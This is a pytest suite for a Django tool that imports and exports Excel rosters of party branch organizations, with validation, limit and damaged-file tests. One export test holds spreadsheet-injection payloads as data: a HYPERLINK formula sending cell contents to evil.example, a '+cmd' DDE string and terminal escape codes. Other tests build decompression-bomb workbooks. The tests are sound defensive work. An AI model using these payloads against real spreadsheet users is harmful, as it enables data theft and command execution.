import datetime
import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from branches import roster
from branches.models import Event, Organization
from tests.branches.xlsx import (
    HEADERS,
    inline_row,
    raw_xlsx,
    row,
    small_roster,
    upload,
    workbook_bytes,
)

pytestmark = pytest.mark.django_db


def problems_of(file):
    result = roster.check(file, actor=None)
    return [(p.row, p.column, p.message) for p in result.problems]


def test_a_clean_roster_imports_the_tree():
    result = roster.check(upload(small_roster()), actor=None)
    assert result.ok and result.to_create == ["SCH", "U1", "B1", "B2"]
    assert roster.apply(result, actor=None) == {"created": 4, "updated": 0, "unchanged": 0}
    branch = Organization.objects.get(code="B2")
    assert branch.unit.code == "U1" and branch.path.startswith(Organization.objects.get(code="SCH").path)
    assert branch.get_category_display() == "学生(本科生)"


def test_reimport_updates_by_code_instead_of_duplicating():
    roster.apply(roster.check(upload(small_roster()), actor=None), actor=None)
    rows = small_roster()
    rows[2] = row("B1", "内科学教研室党支部", parent="U1", full=30)
    outcome = roster.apply(roster.check(upload(rows), actor=None), actor=None)
    assert outcome == {"created": 0, "updated": 1, "unchanged": 3}
    assert Organization.objects.count() == 4
    assert Organization.objects.get(code="B1").full_members == 30
    event = Event.objects.filter(action="organization.updated").get()
    assert event.data["name"] == ["内科教研室党支部", "内科学教研室党支部"]


def test_a_parent_may_be_an_organization_already_in_the_system():
    roster.apply(roster.check(upload(small_roster()), actor=None), actor=None)
    result = roster.check(upload([row("B9", "新党支部", parent="U1")]), actor=None)
    assert result.ok and result.to_create == ["B9"]


def nothing_written():
    return Organization.objects.count() == 0 and not Event.objects.exists()


@pytest.mark.parametrize(
    ("file", "message"),
    [
        (upload(content=b"MZ\x90\x00" + b"\x00" * 200, name="名册.xlsx"), "不是 Excel"),
        (upload(content=b"", name="名册.xlsx"), "文件是空的"),
        (upload(content=b"PK\x03\x04broken zip", name="名册.xlsx"), "可能已损坏"),
        (upload(rows=[], headers=None), "文件是空的"),
        (upload(rows=[]), "没有数据行"),
    ],
    ids=["executable", "zero-bytes", "corrupt", "blank-sheet", "headers-only"],
)
def test_files_that_are_not_rosters_are_refused(file, message):
    problems = problems_of(file)
    assert len(problems) == 1 and message in problems[0][2]
    assert nothing_written()


def test_wrong_and_missing_headers_are_each_named():
    headers = [h for h in HEADERS if h != "成立日期"] + ["备注"]
    problems = problems_of(upload([row("B1", "x")[:-1]], headers=headers))
    assert (1, "成立日期", "缺少表头“成立日期”") in problems
    assert (1, "备注", "无法识别的表头“备注”，请使用模板的表头") in problems


def test_every_bad_row_is_reported_with_row_column_and_reason():
    future = (datetime.date.today() + datetime.timedelta(days=30)).isoformat()
    rows = small_roster() + [
        row("B1", "重复编码党支部", parent="U1"),
        row("B3", "未知上级党支部", parent="NOPE"),
        row("B4", "未来党支部", parent="U1", founded=future),
        row("B5", "类型错党支部", parent="U1", kind="党小组"),
        row("B6", "人数错党支部", parent="U1", full=-3),
        row("B7", "分类错党支部", parent="U1", branch_type="学生党支部", category="教学一线"),
        row("bad code!", "编码错党支部", parent="U1"),
    ]
    problems = problems_of(upload(rows))
    assert (6, "组织编码", "组织编码“B1”与第4行重复") in problems
    assert (7, "上级组织编码", "找不到上级组织“NOPE”：既不在本文件中，也不在系统中") in problems
    assert (8, "成立日期", "成立日期不能晚于今天") in problems
    assert any(p[:2] == (9, "组织类型") for p in problems)
    assert (10, "正式党员数", "应为不小于0的整数") in problems
    assert any(p[:2] == (11, "支部分类") for p in problems)
    assert any(p[:2] == (12, "组织编码") for p in problems)
    assert nothing_written()


def test_a_cycle_within_the_file_is_refused():
    rows = [
        row("U1", "甲党委", kind="基层党委", parent="U2", branch_type="", category=""),
        row("U2", "乙党委", kind="基层党委", parent="U1", branch_type="", category=""),
    ]
    problems = problems_of(upload(rows))
    assert any("循环" in p[2] for p in problems)
    assert nothing_written()


def test_a_cycle_through_the_stored_tree_is_refused():
    roster.apply(roster.check(upload(small_roster()), actor=None), actor=None)
    before = Event.objects.count()
    rows = [row("SCH", "测试大学党委", kind="学校党委", parent="B1", branch_type="", category="")]
    problems = problems_of(upload(rows))
    assert any("循环" in p[2] for p in problems)
    assert Event.objects.count() == before
    assert Organization.objects.get(code="SCH").parent is None


def test_ten_thousand_rows_are_refused_with_the_limit_named():
    rows = [row(f"B{n}", f"党支部{n}", parent="U1") for n in range(10_000)]
    problems = problems_of(upload(rows))
    assert problems == [(None, "", "文件超过单次导入上限 5000 行，请拆分后分批导入")]
    assert nothing_written()


def test_an_oversized_file_is_refused(settings):
    settings.ORG_IMPORT_MAX_BYTES = 1000
    problems = problems_of(upload(small_roster()))
    assert problems and "上限" in problems[0][2]


def test_export_reimports_unchanged(tree):
    buffer = io.BytesIO()
    roster.export_workbook(Organization.objects.all(), buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:len(HEADERS)] == tuple(HEADERS)
    school = next(r for r in rows if r[0] == tree.school.code)
    assert school[-2] == 4  # branches in the sub-tree, 直属党支部 included
    result = roster.check(upload(content=buffer.getvalue()), actor=None)
    assert result.ok, result.problems
    assert roster.apply(result, actor=None)["updated"] == 0


def test_the_template_is_a_valid_empty_roster():
    buffer = io.BytesIO()
    roster.template_workbook().save(buffer)
    assert problems_of(upload(content=buffer.getvalue())) == [(None, "", "文件中没有数据行：请在表头下方逐行填写组织")]


def test_the_command_dry_run_writes_nothing(tmp_path, capsys):
    path = tmp_path / "名册.xlsx"
    path.write_bytes(workbook_bytes(small_roster()))
    call_command("import_organizations", str(path), "--dry-run")
    assert "将新建 4 个" in capsys.readouterr().out
    assert nothing_written()
    call_command("import_organizations", str(path))
    assert Organization.objects.count() == 4
    assert Event.objects.filter(action="organization.imported", source="命令行").exists()


def test_the_command_lists_problems_and_fails(tmp_path, capsys):
    path = tmp_path / "名册.xlsx"
    path.write_bytes(workbook_bytes([row("B3", "未知上级党支部", parent="NOPE")]))
    with pytest.raises(CommandError, match="未写入任何数据"):
        call_command("import_organizations", str(path))
    assert "第2行「上级组织编码」" in capsys.readouterr().err
    assert nothing_written()


def test_moving_a_branch_by_reimport_updates_its_unit_and_path():
    roster.apply(roster.check(upload(small_roster()), actor=None), actor=None)
    rows = small_roster() + [row("U2", "中药学院党委", kind="基层党委", parent="SCH", branch_type="", category="")]
    rows[2] = row("B1", "内科教研室党支部", parent="U2")
    outcome = roster.apply(roster.check(upload(rows), actor=None), actor=None)
    assert outcome == {"created": 1, "updated": 1, "unchanged": 3}
    branch = Organization.objects.get(code="B1")
    assert branch.unit.code == "U2" and branch.path == f"{branch.unit.path}{branch.pk}/"


@pytest.mark.parametrize("size", [5, 60])
def test_checking_a_reimport_takes_the_same_queries_at_any_size(size, django_assert_num_queries):
    rows = small_roster() + [row(f"X{n}", f"党支部{n}", parent="U1") for n in range(size)]
    roster.apply(roster.check(upload(rows), actor=None), actor=None)
    rows[2] = row("B1", "内科教研室党支部", parent="B2")  # a chain that leaves the file
    rows = rows[2:]
    with django_assert_num_queries(2):
        assert roster.check(upload(rows), actor=None).ok


def _with_directory_byte(content, member, offset, value):
    """The workbook with one byte of a member's central-directory entry changed, where zipfile reads it."""
    # The name's last appearance is in the central directory, after the entry's 46 fixed bytes.
    position = content.rindex(member.encode()) - 46
    damaged = bytearray(content)
    damaged[position + offset] = value
    return bytes(damaged)


@pytest.mark.parametrize("offset, value", [(10, 0x63), (8, 0x01)], ids=["unknown-compression", "encrypted"])
def test_a_workbook_with_an_unreadable_member_is_refused_with_a_message(offset, value):
    content = _with_directory_byte(workbook_bytes(small_roster()), "xl/styles.xml", offset, value)
    assert problems_of(upload(content=content, name="名册.xlsx")) == [(None, "", roster.DAMAGED_MESSAGE)]


def test_the_export_writes_hostile_names_as_text_and_reimports_unchanged(tree, client_for):
    from django.urls import reverse

    hostile = {"=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")": "=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")",
               "+cmd|' /C calc'!A0": "+cmd|' /C calc'!A0", "-1+1": "-1+1", "@SUM(A1:A9)": "@SUM(A1:A9)",
               "响铃\x07转义\x1b[31m党支部": "响铃转义[31m党支部"}
    branches = [tree.branch_a1, tree.branch_a2, tree.branch_b1, tree.unit_a, tree.unit_b]
    for organization, name in zip(branches, hostile):
        Organization.objects.filter(pk=organization.pk).update(name=name, founded_on=datetime.date(2015, 3, 1))
    response = client_for(tree.staff).get(reverse("branches:roster_export"))
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for name in hostile.values():
        assert names[name].data_type == "s"
        assert names[name].quotePrefix == (name[0] in "=+-@")
    founded = next(row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == tree.branch_a1.code)
    assert founded.is_date and founded.number_format == "yyyy-mm-dd"
    # The file imports back: the formula-like names unchanged; only the dropped control characters differ.
    Organization.objects.filter(name__contains="\x07").update(name="响铃转义[31m党支部")
    result = roster.check(upload(content=data), actor=None)
    assert result.ok, result.problems
    assert roster.apply(result, actor=None)["updated"] == 0
    assert set(Organization.objects.filter(pk__in=[b.pk for b in branches]).values_list("name", flat=True)) == set(
        hostile.values())


LIMIT_MESSAGE = (None, "", "文件超过单次导入上限 5000 行，请拆分后分批导入")


def test_a_hand_built_workbook_imports_like_any_other():
    rows = [inline_row(1, HEADERS)] + [inline_row(n, values) for n, values in enumerate(small_roster(), start=2)]
    result = roster.check(upload(content=raw_xlsx(rows)), actor=None)
    assert result.ok, result.problems
    assert len(result.rows) == 4


def test_empty_rows_past_the_limit_are_not_read():
    # The rows after the cap end in broken XML: a reader that went on would report a damaged file.
    rows = [inline_row(1, HEADERS)] + [f'<row r="{n}"/>' for n in range(2, 5300)]
    problems = problems_of(upload(content=raw_xlsx(rows, tail="<<<不是XML")))
    assert problems == [LIMIT_MESSAGE]
    assert nothing_written()


def test_data_rows_past_the_limit_are_refused_without_counting_the_rest(settings):
    settings.ORG_IMPORT_MAX_ROWS = 3
    rows = [inline_row(1, HEADERS)] + [inline_row(n, values) for n, values in enumerate(small_roster(), start=2)]
    problems = problems_of(upload(content=raw_xlsx(rows)))
    assert problems == [(None, "", "文件超过单次导入上限 3 行，请拆分后分批导入")]


def test_a_declared_four_million_rows_are_refused_before_reading():
    # openpyxl trusts <dimension> and would hand out four million empty rows.
    data = raw_xlsx([inline_row(1, HEADERS)], dimension="A1:L4000000")
    assert len(data) < 5000
    assert problems_of(upload(content=data)) == [LIMIT_MESSAGE]


def test_a_row_numbered_past_the_limit_is_refused_before_reading():
    # Without <dimension>, openpyxl fills the gap up to row 4,000,000 with empty rows.
    data = raw_xlsx([inline_row(1, HEADERS), '<row r="4000000"/>'])
    assert problems_of(upload(content=data)) == [LIMIT_MESSAGE]


def test_a_declared_width_past_the_limit_is_refused_before_reading():
    data = raw_xlsx([inline_row(1, HEADERS)], dimension="A1:XFD2")
    assert problems_of(upload(content=data)) == [(None, "", "文件超过 200 列的上限，请删除多余的列后再导入")]


@pytest.mark.parametrize("row", ['<row r="²"/>', '<row r="3"><c r="A²" t="inlineStr"><is><t>x</t></is></c></row>',
                                 '<row r="3"><c r="Ａ3" t="inlineStr"><is><t>x</t></is></c></row>'])
def test_a_row_or_cell_numbered_in_other_digits_is_a_damaged_file(row):
    # str.isdigit() says yes to "²" and int() then refused it: "invalid literal for int()" reached the user.
    data = raw_xlsx([inline_row(1, HEADERS), row])
    assert problems_of(upload(content=data)) == [(None, "", roster.DAMAGED_MESSAGE)]


def test_cells_past_the_column_limit_are_refused_before_reading():
    # No <dimension>: openpyxl made every row 16,384 cells wide (XFD), 4.9 s per dry run of a 26 KB file.
    far = [f'<row r="{n}"><c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(2, 3000)]
    data = raw_xlsx([inline_row(1, HEADERS)] + far)
    assert len(data) < 40_000
    assert problems_of(upload(content=data)) == [(None, "", "文件超过 200 列的上限，请删除多余的列后再导入")]


def test_a_shared_strings_bomb_is_refused_by_its_declared_size(settings):
    # Ten million shared strings took 1 GB: openpyxl loads them all when it opens the file. The cap is
    # lowered here so the bomb stays small to build; its declared size is what refuses it.
    settings.ORG_IMPORT_MAX_XML_BYTES = 1024 * 1024
    bomb = ("<si><t>x</t></si>" * 1000 for _ in range(100))  # 1.7 MB unpacked
    data = raw_xlsx([inline_row(1, HEADERS)], shared_strings=bomb)
    assert len(data) < 20_000
    assert problems_of(upload(content=data)) == [
        (None, "", "文件解压后的内容超过 1 MB 的上限，请删除多余的工作表、空行和格式后再导入")]


def test_a_name_with_a_line_break_or_tab_is_refused_by_row():
    rows = small_roster()
    rows[2][1] = "内科\n教研室党支部"
    rows[3][7] = "王\t五"
    problems = problems_of(upload(rows))
    assert (4, "组织名称", "不能包含控制字符（如退格、响铃、转义等不可见字符），请删除后重试") in problems
    assert (5, "支部书记", "不能包含控制字符（如退格、响铃、转义等不可见字符），请删除后重试") in problems
    assert nothing_written()
